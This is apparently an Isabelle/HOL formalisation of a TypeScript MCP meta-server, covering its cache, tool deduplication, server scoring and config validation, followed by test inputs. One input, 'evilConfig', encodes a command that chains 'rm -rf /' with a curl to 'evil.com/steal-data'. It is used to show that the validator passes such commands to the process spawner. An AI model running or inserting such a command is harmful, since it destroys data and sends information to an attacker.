                    else if rate < 2 / 10 then max (currentTTL * (8 / 10)) 60000
                    else currentTTL)
      in if newTTL \<noteq> currentTTL then s\<lparr>toolTypeTTL := mapSet (toolTypeTTL s) tt newTTL\<rparr> else s)"

record ToolTypeStats =
  tt_count :: nat
  tt_avgHitCount :: rat
  tt_hitRate :: rat

text \<open>First loop of \<open>getToolTypeMetrics\<close>: count and sum per tool type, over every entry.\<close>

fun tallyStep :: "(string \<times> ToolTypeStats) list \<Rightarrow> CacheEntry \<Rightarrow> (string \<times> ToolTypeStats) list" where
  "tallyStep stats entry =
     (let cur = (case map_of stats (toolType entry) of
                   None \<Rightarrow> \<lparr>tt_count = 0, tt_avgHitCount = 0, tt_hitRate = 0\<rparr>
                 | Some st \<Rightarrow> st)
      in mapSet stats (toolType entry)
           (cur\<lparr>tt_count := tt_count cur + 1,
                tt_avgHitCount := tt_avgHitCount cur + of_nat (hitCount entry)\<rparr>))"

text \<open>
  Second loop: the average, and the hit rate
  \<open>stats.avgHitCount > 0 ? stats.avgHitCount / this.totalRequests : 0\<close>.
\<close>

definition finishStats :: "CachingSystem \<Rightarrow> ToolTypeStats \<Rightarrow> ToolTypeStats" where
  "finishStats s st =
     (let avg = tt_avgHitCount st / of_nat (tt_count st)
      in st\<lparr>tt_avgHitCount := avg,
            tt_hitRate := (if avg > 0 then avg / of_nat (totalRequests s) else 0)\<rparr>)"

definition getToolTypeMetrics :: "CachingSystem \<Rightarrow> (string \<times> ToolTypeStats) list" where
  "getToolTypeMetrics s =
     map (\<lambda>(tt, st). (tt, finishStats s st)) (foldl tallyStep [] (map snd (cache s)))"

definition updateToolTypeMetricsAndAdjustTTLs :: "CachingSystem \<Rightarrow> CachingSystem" where
  "updateToolTypeMetricsAndAdjustTTLs s =
     foldl (\<lambda>s' (tt, metrics). adjustTTL s' tt (tt_hitRate metrics)) s (getToolTypeMetrics s)"

definition generateOptimizationRecommendations :: "CachingSystem \<Rightarrow> rat \<Rightarrow> nat \<Rightarrow> string list" where
  "generateOptimizationRecommendations s rate validEntries =
     (if rate < 3 / 10
      then [''Low cache hit rate detected. Consider increasing TTL for frequently accessed tools.'']
      else [])
   @ (if of_nat validEntries / of_nat (maxSize s) > (9 / 10 :: rat)
      then [''Cache is near capacity. Consider increasing max size or implementing more aggressive eviction.'']
      else [])
   @ (if rate > 8 / 10
      then [''Excellent cache performance! Consider expanding cache size to store more entries.'']
      else [])
   @ (if totalRequests s < 10
      then [''Insufficient data for meaningful cache analysis. Continue using the system to gather metrics.'']
      else [])"

record CacheStats =
  stats_size :: nat
  stats_hitRate :: rat
  stats_totalRequests :: nat
  stats_totalHits :: nat
  stats_avgHitCount :: rat
  stats_oldestEntry :: "int option"
  stats_newestEntry :: "int option"
  stats_recommendations :: "string list"

text \<open>\<open>getStats\<close> of the cache: the statistics, and the state after the TTL adjustment.\<close>

definition cacheGetStats :: "int \<Rightarrow> CachingSystem \<Rightarrow> CacheStats \<times> CachingSystem" where
  "cacheGetStats now s =
     (let entries = map snd (cache s);
          validEntries = filter (\<lambda>entry. expiry entry > of_int now) entries;
          rate = (if totalRequests s > 0 then of_nat (totalHits s) / of_nat (totalRequests s) else 0);
          avg = (if length validEntries > 0
                 then of_nat (sum_list (map hitCount validEntries)) / of_nat (length validEntries)
                 else 0);
          accessTimes = map lastAccess validEntries;
          oldest = (if length accessTimes > 0 then Some (Min (set accessTimes)) else None);
          newest = (if length accessTimes > 0 then Some (Max (set accessTimes)) else None);
          recommendations = generateOptimizationRecommendations s rate (length validEntries);
          s' = updateToolTypeMetricsAndAdjustTTLs s
      in (\<lparr>stats_size = length (cache s'), stats_hitRate = rate,
           stats_totalRequests = totalRequests s', stats_totalHits = totalHits s',
           stats_avgHitCount = avg, stats_oldestEntry = oldest, stats_newestEntry = newest,
           stats_recommendations = recommendations\<rparr>, s'))"

section \<open>index.ts: MCPMetaServer\<close>

datatype ServerStatus = Connected | Disconnected | Connecting

record PerformanceMetrics =
  successRate :: rat
  avgResponseTime :: rat
  lastUsed :: int
  totalCalls :: nat
  failureCount :: nat

record MCPServerConfiguration =
  config_id :: string
  config_name :: string
  command :: "string list"
  config_description :: "string option"

text \<open>\<open>client\<close> is \<open>True\<close> for a live \<open>Client\<close> object and \<open>False\<close> for \<open>null\<close>.\<close>

record ServerInfo =
  config :: MCPServerConfiguration
  client :: bool
  tools :: "Tool list"
  metrics :: PerformanceMetrics
  status :: ServerStatus

record NamespacedTool = Tool +
  ownerId :: string

text \<open>
  What lies outside the process: whether spawning \<open>command\<close> with \<open>args\<close>, the handshake
  and \<open>tools/list\<close> succeed (and with which tools), and what a \<open>tools/call\<close> request to a
  server gives after how many milliseconds.
\<close>

datatype CallOutcome = Returned json | Threw string

record Environment =
  spawnChild :: "string \<Rightarrow> string list \<Rightarrow> Tool list option"
  remoteCall :: "string \<Rightarrow> string \<Rightarrow> json option \<Rightarrow> CallOutcome \<times> int"

text \<open>
  The fields of the class, and two logs of what was handed to the outside: the commands given
  to the child-process transport, and the \<open>tools/call\<close> requests sent.
\<close>

record MCPMetaServer =
  servers :: "(string \<times> ServerInfo) list"
  cachingSystem :: CachingSystem
  deduplication :: DeduplicationConfig
  allTools :: "(string \<times> NamespacedTool) list"
  mergedTools :: "(string \<times> MergedTool) list"
  performanceMetrics :: "(string \<times> (string \<times> PerformanceMetrics) list) list"
  spawned :: "(string \<times> string list) list"
  requests :: "(string \<times> string \<times> json option) list"

definition newMCPMetaServer :: MCPMetaServer where
  "newMCPMetaServer =
     \<lparr>servers = [], cachingSystem = newCachingSystem, deduplication = defaultDeduplicationConfig,
      allTools = [], mergedTools = [], performanceMetrics = [], spawned = [], requests = []\<rparr>"

definition initialMetrics :: "int \<Rightarrow> PerformanceMetrics" where
  "initialMetrics now =
     \<lparr>successRate = 1, avgResponseTime = 0, lastUsed = now, totalCalls = 0, failureCount = 0\<rparr>"

definition initializeServerMetrics :: "int \<Rightarrow> MCPMetaServer \<Rightarrow> string \<Rightarrow> Tool list \<Rightarrow> MCPMetaServer" where
  "initializeServerMetrics now st sid ts =
     st\<lparr>performanceMetrics :=
          mapSet (performanceMetrics st) sid
            (foldl (\<lambda>m tool. mapSet m (name tool) (initialMetrics now)) [] ts)\<rparr>"

text \<open>
  \<open>connectToServer\<close>.  \<open>const [command, ...args] = config.command\<close> is handed to the
  transport as it is.  An empty \<open>command\<close> leaves \<open>command\<close> undefined, the transport throws
  and the \<open>catch\<close> branch runs; so does it when the spawn, the handshake or the listing fails.
\<close>

definition connectToServer ::
  "Environment \<Rightarrow> int \<Rightarrow> MCPMetaServer \<Rightarrow> MCPServerConfiguration \<Rightarrow> MCPMetaServer"
where
  "connectToServer env now st cfg =
     (if map_of (servers st) (config_id cfg) \<noteq> None then st
      else
        (let failed = \<lparr>config = cfg, client = False, tools = [],
                        metrics = \<lparr>successRate = 0, avgResponseTime = 0, lastUsed = now,
                                   totalCalls = 0, failureCount = 1\<rparr>,
                        status = Disconnected\<rparr>
         in case command cfg of
              [] \<Rightarrow> st\<lparr>servers := mapSet (servers st) (config_id cfg) failed\<rparr>
            | cmd # args \<Rightarrow>
                (let st1 = st\<lparr>spawned := spawned st @ [(cmd, args)]\<rparr>
                 in case spawnChild env cmd args of
                      None \<Rightarrow> st1\<lparr>servers := mapSet (servers st1) (config_id cfg) failed\<rparr>
                    | Some ts \<Rightarrow>
                        initializeServerMetrics now
                          (st1\<lparr>servers := mapSet (servers st1) (config_id cfg)
                                  \<lparr>config = cfg, client = True, tools = ts,
                                   metrics = initialMetrics now, status = Connected\<rparr>\<rparr>)
                          (config_id cfg) ts)))"

text \<open>\<open>discoverAndConnect\<close> connects every discovered configuration.\<close>

definition connectAll ::
  "Environment \<Rightarrow> int \<Rightarrow> MCPMetaServer \<Rightarrow> MCPServerConfiguration list \<Rightarrow> MCPMetaServer"
where
  "connectAll env now st cfgs = foldl (connectToServer env now) st cfgs"

definition updateMetrics ::
  "int \<Rightarrow> MCPMetaServer \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> rat \<Rightarrow> MCPMetaServer"
where
  "updateMetrics now st sid toolName success responseTime =
     (case map_of (performanceMetrics st) sid of
        None \<Rightarrow> st
      | Some serverMetrics \<Rightarrow>
         (case map_of serverMetrics toolName of
            None \<Rightarrow> st
          | Some m \<Rightarrow>
             (let calls = totalCalls m + 1;
                  failures = (if \<not> success then failureCount m + 1 else failureCount m);
                  m' = \<lparr>successRate = ddiv (of_nat calls - of_nat failures) (of_nat calls),
                        avgResponseTime =
                          ddiv (dadd (dmul (avgResponseTime m) (of_nat calls - 1)) responseTime)
                            (of_nat calls),
                        lastUsed = now, totalCalls = calls, failureCount = failures\<rparr>
              in st\<lparr>performanceMetrics :=
                       mapSet (performanceMetrics st) sid (mapSet serverMetrics toolName m')\<rparr>)))"

text \<open>
  The literals \<open>0.8\<close>, \<open>0.6\<close>, \<open>0.4\<close>, \<open>0.3\<close> and \<open>0.2\<close> are the doubles nearest to these
  decimals; \<open>0.5\<close>, \<open>1.0\<close> and the integers are doubles themselves.
\<close>

definition calculateRecencyScore :: "int \<Rightarrow> int \<Rightarrow> rat" where
  "calculateRecencyScore now used =
     (let hoursSinceUsed = ddiv (of_int (now - used)) (1000 * 60 * 60)
      in if hoursSinceUsed < 1 then 1
         else if hoursSinceUsed < 24 then roundDouble (8 / 10)
         else if hoursSinceUsed < 168 then roundDouble (6 / 10)
         else roundDouble (4 / 10))"

definition calculateServerScore :: "int \<Rightarrow> MCPMetaServer \<Rightarrow> string \<Rightarrow> string \<Rightarrow> rat" where
  "calculateServerScore now st sid toolName =
     (case (case map_of (performanceMetrics st) sid of
              None \<Rightarrow> None
            | Some serverMetrics \<Rightarrow> map_of serverMetrics toolName) of
        None \<Rightarrow> 1 / 2
      | Some m \<Rightarrow>
          (if totalCalls m = 0 then 1 / 2
           else
             (let successScore = successRate m;
                  responseScore = max 0 (dsub 1 (ddiv (avgResponseTime m) 10000));
                  recencyScore = calculateRecencyScore now (lastUsed m)
              in dadd (dadd (dmul successScore (1 / 2))
                            (dmul responseScore (roundDouble (3 / 10))))
                      (dmul recencyScore (roundDouble (2 / 10))))))"

definition determineToolType :: "string \<Rightarrow> string" where
  "determineToolType toolName =
     (let n = toLowerCase toolName in
      if str_includes n ''file'' \<or> str_includes n ''read'' \<or> str_includes n ''write'' then ''filesystem''
      else if str_includes n ''db'' \<or> str_includes n ''sql'' \<or> str_includes n ''query'' then ''database''
      else if str_includes n ''http'' \<or> str_includes n ''api'' \<or> str_includes n ''request'' then ''network''
      else if str_includes n ''compute'' \<or> str_includes n ''calculate'' \<or> str_includes n ''process''
           then ''computation''
      else if str_includes n ''static'' \<or> str_includes n ''const'' \<or> str_includes n ''reference''
           then ''static''
      else ''default'')"

text \<open>
  The cache key \<open>`${serverId}:${toolName}:${JSON.stringify(args)}`\<close>; a call without
  arguments has \<open>args\<close> undefined, which the template prints as \<open>undefined\<close>.
\<close>

definition cacheKeyOf :: "string \<Rightarrow> string \<Rightarrow> json option \<Rightarrow> string" where
  "cacheKeyOf sid toolName args =
     sid @ '':'' @ toolName @ '':'' @ (case args of None \<Rightarrow> ''undefined'' | Some a \<Rightarrow> stringify a)"

text \<open>
  \<open>executeToolCall\<close>: the result (\<open>Inl\<close> the message of the error thrown), the state and
  the clock afterwards.
\<close>

definition executeToolCall ::
  "Environment \<Rightarrow> int \<Rightarrow> MCPMetaServer \<Rightarrow> string \<Rightarrow> string \<Rightarrow> json option
   \<Rightarrow> (string + json) \<times> MCPMetaServer \<times> int"
where
  "executeToolCall env now st sid toolName args =
     (if (case map_of (servers st) sid of None \<Rightarrow> True | Some info \<Rightarrow> status info \<noteq> Connected)
      then (Inl (''Server '' @ sid @ '' is not connected''), st, now)
      else
        (let cacheKey = cacheKeyOf sid toolName args;
             (cachedResult, c1) = cacheGet now (cachingSystem st) cacheKey;
             st1 = st\<lparr>cachingSystem := c1\<rparr>
         in if truthy cachedResult then (Inr cachedResult, st1, now)
            else
              (let st2 = st1\<lparr>requests := requests st1 @ [(sid, toolName, args)]\<rparr>
               in case remoteCall env sid toolName args of
                    (Returned result, elapsed) \<Rightarrow>
                      (let st3 = updateMetrics (now + elapsed) st2 sid toolName True (of_int elapsed)
                       in (Inr result,
                           st3\<lparr>cachingSystem :=
                                 cacheSet (now + elapsed) (cachingSystem st3) cacheKey result None
                                   (determineToolType toolName)\<rparr>,
                           now + elapsed))
                  | (Threw msg, elapsed) \<Rightarrow>
                      (Inl msg,
                       updateMetrics (now + elapsed) st2 sid toolName False (of_int elapsed),
                       now + elapsed))))"

text \<open>
  The loop of \<open>handleMergedToolCall\<close> over the sorted servers; \<open>lastError\<close> is \<open>None\<close> for
  \<open>null\<close>.  It ends at the first call that returns, or when the list is exhausted.
\<close>

fun tryServers ::
  "Environment \<Rightarrow> json option \<Rightarrow> (string \<times> string \<times> rat) list \<Rightarrow> int \<Rightarrow> MCPMetaServer
   \<Rightarrow> string option \<Rightarrow> (string option + json) \<times> MCPMetaServer \<times> int"
where
  "tryServers env args [] now st lastError = (Inl lastError, st, now)"
| "tryServers env args ((sid, actualToolName, sc) # rest) now st lastError =
     (if (case map_of (servers st) sid of None \<Rightarrow> True | Some info \<Rightarrow> status info \<noteq> Connected)
      then tryServers env args rest now st lastError
      else case executeToolCall env now st sid actualToolName args of
             (Inr result, st', now') \<Rightarrow> (Inr result, st', now')
           | (Inl msg, st', now') \<Rightarrow> tryServers env args rest now' st' (Some msg))"

text \<open>
  The ranking: every member with its score, sorted by descending score with the stable
  \<open>Array.prototype.sort\<close>.  The comparator \<open>b.score - a.score\<close> is a difference of doubles,
  which has the sign of the exact difference.
\<close>

definition sortedServers :: "int \<Rightarrow> MCPMetaServer \<Rightarrow> MergedTool \<Rightarrow> (string \<times> string \<times> rat) list" where
  "sortedServers now st mergedTool =
     sort_key (\<lambda>(sid, toolName, sc). - sc)
       (map (\<lambda>(sid, tool). (sid, name tool, calculateServerScore now st sid (name tool)))
          (originalTools mergedTool))"

definition handleMergedToolCall ::
  "Environment \<Rightarrow> int \<Rightarrow> MCPMetaServer \<Rightarrow> string \<Rightarrow> json option
   \<Rightarrow> (string + json) \<times> MCPMetaServer \<times> int"
where
  "handleMergedToolCall env now st toolName args =
     (case map_of (mergedTools st) toolName of
        None \<Rightarrow> (Inl (''Merged tool '' @ toolName @ '' not found''), st, now)
      | Some mergedTool \<Rightarrow>
         (case tryServers env args (sortedServers now st mergedTool) now st None of
            (Inr result, st', now') \<Rightarrow> (Inr result, st', now')
          | (Inl lastError, st', now') \<Rightarrow>
              (Inl (''All servers failed for merged tool '' @ [CHR 0x22] @ toolName @ [CHR 0x22]
                    @ ''. Last error: ''
                    @ (case lastError of None \<Rightarrow> ''undefined'' | Some msg \<Rightarrow> msg)),
               st', now')))"

subsection \<open>refreshToolsList and handleConfigureDeduplication\<close>

text \<open>The \<open>{serverId, tool}\<close> entries of the connected servers, in registry order.\<close>

definition connectedServerTools :: "MCPMetaServer \<Rightarrow> ServerTool list" where
  "connectedServerTools st =
     concat (map (\<lambda>(sid, info). if status info = Connected then map (\<lambda>tool. (sid, tool)) (tools info)
                                else []) (servers st))"

definition namespaced :: "ServerTool \<Rightarrow> string \<times> NamespacedTool" where
  "namespaced e =
     (fst e @ '':'' @ name (snd e),
      \<lparr>name = fst e @ '':'' @ name (snd e), description = description (snd e),
       inputSchema = inputSchema (snd e), ownerId = fst e\<rparr>)"

text \<open>\<open>refreshToolsList\<close>; \<open>None\<close> only if \<open>mergeTools\<close> does not return.\<close>

definition refreshToolsList :: "MCPMetaServer \<Rightarrow> MCPMetaServer option" where
  "refreshToolsList st =
     (let allServerTools = connectedServerTools st;
          st1 = st\<lparr>allTools := foldl (\<lambda>m e. mapSet m (fst (namespaced e)) (snd (namespaced e)))
                                  [] allServerTools,
                   mergedTools := []\<rparr>
      in if enabled (deduplication st1)
         then (case mergeTools (deduplication st1) allServerTools of
                 None \<Rightarrow> None
               | Some merged \<Rightarrow>
                   Some (st1\<lparr>mergedTools := foldl (\<lambda>m t. mapSet m (name t) t) [] merged\<rparr>))
         else Some st1)"

text \<open>The arguments of \<open>configure_deduplication\<close>; \<open>None\<close> is a field that is not given.\<close>

record ConfigureArgs =
  arg_enabled :: "bool option"
  arg_similarityThreshold :: "rat option"
  arg_autoMerge :: "bool option"
  arg_getStats :: bool

record ToolCounts =
  originalCount :: nat
  mergedCount :: nat
  reduction :: rat

record ConfigureResult =
  res_config :: DeduplicationConfig
  res_stats :: "DeduplicationStats option"
  res_toolCounts :: "ToolCounts option"

definition applyUpdates :: "ConfigureArgs \<Rightarrow> DeduplicationConfig \<Rightarrow> DeduplicationConfig" where
  "applyUpdates args c =
     (let c1 = (case arg_enabled args of None \<Rightarrow> c | Some b \<Rightarrow> c\<lparr>enabled := b\<rparr>);
          c2 = (case arg_similarityThreshold args of None \<Rightarrow> c1
                | Some t \<Rightarrow> c1\<lparr>similarityThreshold := t\<rparr>)
      in case arg_autoMerge args of None \<Rightarrow> c2 | Some b \<Rightarrow> c2\<lparr>autoMerge := b\<rparr>)"

definition handleConfigureDeduplication ::
  "MCPMetaServer \<Rightarrow> ConfigureArgs \<Rightarrow> (ConfigureResult \<times> MCPMetaServer) option"
where
  "handleConfigureDeduplication st args =
     (case (let st1 = st\<lparr>deduplication := applyUpdates args (deduplication st)\<rparr>
            in if arg_enabled args \<noteq> None then refreshToolsList st1 else Some st1) of
        None \<Rightarrow> None
      | Some st2 \<Rightarrow>
          (if arg_getStats args
           then (case getStats (deduplication st2) (connectedServerTools st2) of
                   None \<Rightarrow> None
                 | Some stats \<Rightarrow>
                     Some (\<lparr>res_config = deduplication st2, res_stats = Some stats,
                            res_toolCounts =
                              Some \<lparr>originalCount = length (allTools st2),
                                    mergedCount = length (mergedTools st2),
                                    reduction =
                                      (if length (allTools st2) > 0
                                       then ((of_nat (length (allTools st2))
                                              - of_nat (length (mergedTools st2)))
                                             / of_nat (length (allTools st2))) * 100
                                       else 0)\<rparr>\<rparr>, st2))
           else Some (\<lparr>res_config = deduplication st2, res_stats = None, res_toolCounts = None\<rparr>,
                      st2)))"

section \<open>discovery.ts: isValidConfig\<close>

text \<open>
  The only check a discovered configuration passes before it reaches \<open>connectToServer\<close>:
  \<open>config && typeof config.id === 'string' && typeof config.name === 'string' &&
  Array.isArray(config.command)\<close>.
\<close>

definition isValidConfig :: "json \<Rightarrow> bool" where
  "isValidConfig c =
     (truthy c
      \<and> (case getProp c ''id'' of Some (JStr s) \<Rightarrow> True | _ \<Rightarrow> False)
      \<and> (case getProp c ''name'' of Some (JStr s) \<Rightarrow> True | _ \<Rightarrow> False)
      \<and> (case getProp c ''command'' of Some (JArr xs) \<Rightarrow> True | _ \<Rightarrow> False))"

text \<open>
  The type guard then treats the object as an \<open>MCPServerConfiguration\<close>.  The record is read
  from the object when the elements of \<open>command\<close> are strings, as that type declares.
\<close>

fun stringsOf :: "json list \<Rightarrow> string list option" where
  "stringsOf [] = Some []"
| "stringsOf (JStr s # rest) = map_option ((#) s) (stringsOf rest)"
| "stringsOf (_ # rest) = None"

definition asConfiguration :: "json \<Rightarrow> MCPServerConfiguration option" where
  "asConfiguration c =
     (case (getProp c ''id'', getProp c ''name'', getProp c ''command'') of
        (Some (JStr i), Some (JStr n), Some (JArr xs)) \<Rightarrow>
          map_option (\<lambda>cmd. \<lparr>config_id = i, config_name = n, command = cmd,
                               config_description =
                                 (case getProp c ''description'' of
                                    Some (JStr d) \<Rightarrow> Some d
                                  | _ \<Rightarrow> None)\<rparr>) (stringsOf xs)
      | _ \<Rightarrow> None)"

section \<open>Concrete inputs\<close>



definition pathSchema :: json where
  "pathSchema =
     JObj [(''type'', JStr ''object''),
           (''properties'', JObj [(''path'', JObj [(''type'', JStr ''string'')])])]"

text \<open>Three servers expose a tool \<open>read\<close> with the same schema and different descriptions.\<close>

definition threeReadTools :: "ServerTool list" where
  "threeReadTools =
     [(''A'', \<lparr>name = ''read'', description = Some ''a'', inputSchema = pathSchema\<rparr>),
      (''B'', \<lparr>name = ''read'', description = Some ''aa'', inputSchema = pathSchema\<rparr>),
      (''C'', \<lparr>name = ''read'', description = Some ''ba'', inputSchema = pathSchema\<rparr>)]"

text \<open>The configuration that BUG\_FIXES\_REPORT.md gives as an attack.\<close>

definition evilConfig :: MCPServerConfiguration where
  "evilConfig =
     \<lparr>config_id = ''malicious'', config_name = ''Evil Server'',
      command = [''rm'', ''-rf'', ''/'', ''&&'', ''curl'', ''evil.com/steal-data''],
      config_description = None\<rparr>"

definition evilConfigJson :: json where
  "evilConfigJson =
     JObj [(''id'', JStr ''malicious''), (''name'', JStr ''Evil Server''),
           (''command'', JArr [JStr ''rm'', JStr ''-rf'', JStr ''/'', JStr ''&&'', JStr ''curl'',
                               JStr ''evil.com/steal-data''])]"

text \<open>A tool result with one text item.\<close>

definition textResult :: "string \<Rightarrow> json" where
  "textResult t = JObj [(''content'', JArr [JObj [(''type'', JStr ''text''), (''text'', JStr t)]])]"

text \<open>
  A cache holding one filesystem entry and one database entry, each stored at time 1000 and
  read once at time 2000.
\<close>

definition twoTypeCache :: CachingSystem where
  "twoTypeCache =
     snd (cacheGet 2000
       (snd (cacheGet 2000
         (cacheSet 1000
            (cacheSet 1000 newCachingSystem ''A:read_file:{}'' (textResult ''hello'') None
               ''filesystem'')
            ''B:query:{}'' (textResult ''rows'') None ''database'')
         ''A:read_file:{}''))
       ''B:query:{}'')"

text \<open>A server with one connected provider \<open>sid\<close> that exposes one tool.\<close>

definition oneServer :: "string \<Rightarrow> string \<Rightarrow> MCPMetaServer" where
  "oneServer sid toolName =
     connectToServer
       \<lparr>spawnChild = (\<lambda>cmd args. Some [\<lparr>name = toolName, description = None,
                                          inputSchema = JObj [(''type'', JStr ''object'')]\<rparr>]),
        remoteCall = (\<lambda>s t a. (Threw ''unused'', 0))\<rparr>
       0 newMCPMetaServer
       \<lparr>config_id = sid, config_name = sid, command = [''node'', ''server.js''],
        config_description = None\<rparr>"

text \<open>An environment in which every tool call returns \<open>r\<close> after 25 ms.\<close>

definition answering :: "json \<Rightarrow> Environment" where
  "answering r = \<lparr>spawnChild = (\<lambda>cmd args. None), remoteCall = (\<lambda>s t a. (Returned r, 25))\<rparr>"

text \<open>
  The cache key of the call \<open>p:echo\<close> with the argument \<open>{"q": "a...a"}\<close> (\<open>i\<close> letters), and
  the cache after \<open>n\<close> such results have been stored, one per millisecond from the clock
  reading 5000 on.
\<close>

definition keyN :: "nat \<Rightarrow> string" where
  "keyN i = cacheKeyOf ''p'' ''echo'' (Some (JObj [(''q'', JStr (replicate i CHR ''a''))]))"

fun fillCache :: "nat \<Rightarrow> CachingSystem" where
  "fillCache 0 = newCachingSystem"
| "fillCache (Suc n) =
     cacheSet (5000 + int n) (fillCache n) (keyN n) (textResult ''ok'') None ''default''"

text \<open>Arguments with a blank inside a string.\<close>

definition searchArgs :: json where
  "searchArgs = JObj [(''q'', JStr ''x y''), (''n'', JNum 1)]"

text \<open>
  Five providers \<open>s1\<close> to \<open>s5\<close> expose the same tool \<open>read\<close>; every \<open>tools/call\<close> throws after
  10 ms.  \<open>fiveProviders\<close> is the server after discovery and \<open>refreshToolsList\<close>: the five
  tools are merged into one tool \<open>read\<close>, which is \<open>fiveMerged\<close>.
\<close>

definition readTool :: Tool where
  "readTool = \<lparr>name = ''read'', description = Some ''Read a file'', inputSchema = pathSchema\<rparr>"

definition providerConfig :: "string \<Rightarrow> MCPServerConfiguration" where
  "providerConfig sid =
     \<lparr>config_id = sid, config_name = sid, command = [''node'', sid @ ''.js''],
      config_description = None\<rparr>"

definition failingEnv :: Environment where
  "failingEnv = \<lparr>spawnChild = (\<lambda>cmd args. Some [readTool]),
                 remoteCall = (\<lambda>sid toolName args. (Threw ''timeout'', 10))\<rparr>"

definition fiveProviders :: MCPMetaServer where
  "fiveProviders =
     (case refreshToolsList
             (connectAll failingEnv 0 newMCPMetaServer
                (map providerConfig [''s1'', ''s2'', ''s3'', ''s4'', ''s5''])) of
        None \<Rightarrow> newMCPMetaServer
      | Some st \<Rightarrow> st)"

definition fiveMerged :: MergedTool where
  "fiveMerged =
     \<lparr>name = ''read'', description = Some ''Read a file'', inputSchema = pathSchema,
      originalTools = map (\<lambda>sid. (sid, readTool)) [''s1'', ''s2'', ''s3'', ''s4'', ''s5''],
      confidence = 1, serverId = ''s1''\<rparr>"

definition tmpArgs :: "json option" where
  "tmpArgs = Some (JObj [(''path'', JStr ''/tmp/x'')])"

text \<open>
  Three providers of \<open>read\<close> with a history.  \<open>s1\<close> has failed four times, after 4000 ms
  each, two days before the time 172801000; \<open>s2\<close> has failed three times and answered once,
  after 9500 ms each, two hours before it; \<open>s3\<close> has not been called.  In exact arithmetic
  \<open>s1\<close> and \<open>s2\<close> both score 3/10; as doubles \<open>s1\<close> scores 0.3 and \<open>s2\<close>
  0.30000000000000004.  The environment lets \<open>s3\<close> time out and the others answer.
\<close>

definition threeMerged :: MergedTool where
  "threeMerged =
     \<lparr>name = ''read'', description = Some ''Read a file'', inputSchema = pathSchema,
      originalTools = map (\<lambda>sid. (sid, readTool)) [''s1'', ''s2'', ''s3''],
      confidence = 1, serverId = ''s1''\<rparr>"

definition rankedProviders :: MCPMetaServer where
  "rankedProviders =
     (let st0 = (case refreshToolsList
                        (connectAll failingEnv 0 newMCPMetaServer
                           (map providerConfig [''s1'', ''s2'', ''s3''])) of
                   None \<Rightarrow> newMCPMetaServer
                 | Some st \<Rightarrow> st);
          st1 = foldl (\<lambda>st ok. updateMetrics 1000 st ''s1'' ''read'' ok 4000) st0
                  [False, False, False, False]
      in foldl (\<lambda>st ok. updateMetrics 165601000 st ''s2'' ''read'' ok 9500) st1
           [False, False, False, True])"

definition pickyEnv :: Environment where
  "pickyEnv = \<lparr>spawnChild = (\<lambda>cmd args. Some [readTool]),
               remoteCall = (\<lambda>sid toolName args.
                  if sid = ''s3'' then (Threw ''timeout'', 10)
                  else (Returned (textResult ''ok''), 25))\<rparr>"


section \<open>Notions used to state the properties\<close>

text \<open>
  A JavaScript object has distinct keys.  Two JSON values are equal as JSON values when they
  have the same keys and equal values at every level, whatever the order of the keys; they
  have the same key order when, in addition, the keys come in the same sequence at every
  level.
\<close>

fun distinctKeys :: "json \<Rightarrow> bool" where
  "distinctKeys (JArr xs) = list_all distinctKeys xs"
| "distinctKeys (JObj ps) = (distinct (map fst ps) \<and> list_all (\<lambda>(k, v). distinctKeys v) ps)"
| "distinctKeys _ = True"

fun jsonEquiv :: "json \<Rightarrow> json \<Rightarrow> bool" where
  "jsonEquiv (JObj ps) (JObj qs) =
     (set (map fst ps) = set (map fst qs)
      \<and> list_all (\<lambda>(k, v). case map_of qs k of None \<Rightarrow> False | Some w \<Rightarrow> jsonEquiv v w) ps)"
| "jsonEquiv (JArr xs) (JArr ys) = list_all2 jsonEquiv xs ys"
| "jsonEquiv a b = (a = b)"

fun sameKeyOrder :: "json \<Rightarrow> json \<Rightarrow> bool" where
  "sameKeyOrder (JObj ps) (JObj qs) =
     (map fst ps = map fst qs \<and> list_all2 (\<lambda>p q. sameKeyOrder (snd p) (snd q)) ps qs)"
| "sameKeyOrder (JArr xs) (JArr ys) = list_all2 sameKeyOrder xs ys"
| "sameKeyOrder a b = True"

text \<open>
  The match search of \<open>jaroSimilarity\<close> as a matching between the positions of the two
  strings: the pairs that may be matched (equal characters within the window), what a
  matching is, and a matching without blocking pair, when every position prefers a partner
  with a smaller index and any partner to none.
\<close>

definition matchEdges :: "string \<Rightarrow> string \<Rightarrow> (nat \<times> nat) set" where
  "matchEdges s1 s2 = {(i, j). i < length s1 \<and> j < length s2 \<and> s1 ! i = s2 ! j
                     \<and> \<bar>int i - int j\<bar> \<le> matchWindow s1 s2}"

definition isMatching :: "(nat \<times> nat) set \<Rightarrow> bool" where
  "isMatching M = ((\<forall>i j j'. (i, j) \<in> M \<and> (i, j') \<in> M \<longrightarrow> j = j')
               \<and> (\<forall>i i' j. (i, j) \<in> M \<and> (i', j) \<in> M \<longrightarrow> i = i'))"

definition stableIn :: "(nat \<times> nat) set \<Rightarrow> (nat \<times> nat) set \<Rightarrow> bool" where
  "stableIn E M = (\<forall>(i, j) \<in> E. (i, j) \<in> M \<or> (\<exists>j'<j. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j) \<in> M))"

definition matchInv ::
  "string \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> (nat \<times> nat) set \<Rightarrow> bool list \<times> bool list \<times> nat \<Rightarrow> bool" where
  "matchInv s1 s2 k M st =
     (case st of (m1, m2, cnt) \<Rightarrow>
        length m1 = length s1 \<and> length m2 = length s2 \<and> finite M \<and> isMatching M
        \<and> M \<subseteq> matchEdges s1 s2 \<and> fst ` M \<subseteq> {..<k}
        \<and> (\<forall>i<length s1. m1 ! i \<longleftrightarrow> i \<in> fst ` M)
        \<and> (\<forall>j<length s2. m2 ! j \<longleftrightarrow> j \<in> snd ` M)
        \<and> cnt = card M
        \<and> (\<forall>(i, j) \<in> matchEdges s1 s2. i < k \<longrightarrow>
              (i, j) \<in> M \<or> (\<exists>j'<j. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j) \<in> M)))"

definition flagsOf :: "nat \<Rightarrow> nat set \<Rightarrow> bool list" where
  "flagsOf n A = map (\<lambda>i. i \<in> A) [0..<n]"

definition mismatches :: "string \<Rightarrow> string \<Rightarrow> (nat \<times> nat) list \<Rightarrow> nat" where
  "mismatches s1 s2 ps = length (filter (\<lambda>(i, j). s1 ! i \<noteq> s2 ! j) ps)"

definition matchedOf :: "bool list \<Rightarrow> nat list" where
  "matchedOf m = filter (\<lambda>i. m ! i) [0..<length m]"





